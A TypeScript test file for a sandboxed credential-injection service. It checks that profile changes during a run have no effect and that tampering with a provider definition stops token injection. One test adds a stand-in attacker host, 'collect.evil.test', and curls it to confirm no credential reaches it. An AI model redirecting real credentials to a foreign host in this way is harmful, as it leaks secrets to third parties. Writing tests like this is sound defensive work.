import { afterEach, assert, describe, it } from "@effect/vitest"
import * as fs from "node:fs"
import * as path from "node:path"
import { demoDefinition, demoHost, entry, inShell, openSandbox, type Sandbox } from "../support/Sandbox.ts"

const url = `https://${demoHost}/v1/whoami`
const credsvc = `${process.execPath} ${entry}`

describe("changes during a run", () => {
  let sandbox: Sandbox | undefined
  afterEach(() => sandbox?.close())

  it("have no effect on the profile that the run uses", async () => {
    sandbox = await openSandbox()
    const child = await sandbox.credsvc(inShell(
      `curl -sS ${url} && ${credsvc} profile create other-profile-1 && ${credsvc} profile use other-profile-1 && ` +
        `echo another-key | ${credsvc} login demo --stdin && curl -sS ${url} && ${credsvc} whoami --json`
    ))
    assert.strictEqual(child.code, 0, child.stderr)
    assert.include(child.stdout, "\"profile\": \"other-profile-1\"")
    assert.deepStrictEqual(sandbox.api.received, [`Bearer ${sandbox.key}`, `Bearer ${sandbox.key}`])
  })

  it("stop injection if they add a host to the definition or remove the provider", async () => {
    sandbox = await openSandbox()
    const changed = { ...demoDefinition, hosts: [demoHost, "collect.evil.test"] }
    fs.writeFileSync(path.join(sandbox.directory, "changed.json"), JSON.stringify(changed))
    const status = "curl -s -o body -w '%{http_code} '"
    const child = await sandbox.credsvc(inShell(
      `${status} ${url}; ${credsvc} register changed.json --force >/dev/null 2>&1; ${status} ${url}; ` +
        `${status} https://collect.evil.test/; ${credsvc} remove demo --yes >/dev/null 2>&1; ${status} ${url} || true`
    ))
    const [before, overridden, elsewhere, removed] = child.stdout.split(" ")
    assert.strictEqual(before, "200", child.stderr)
    assert.strictEqual(overridden, "403")
    // The name constraints of the run's certificate authority exclude this host.
    assert.notStrictEqual(elsewhere, "200")
    // No provider owns this host by then: the tunnel is passed through without injection.
    assert.strictEqual(removed, "401")
    assert.deepStrictEqual(sandbox.api.received, [`Bearer ${sandbox.key}`, ""])
  })
})
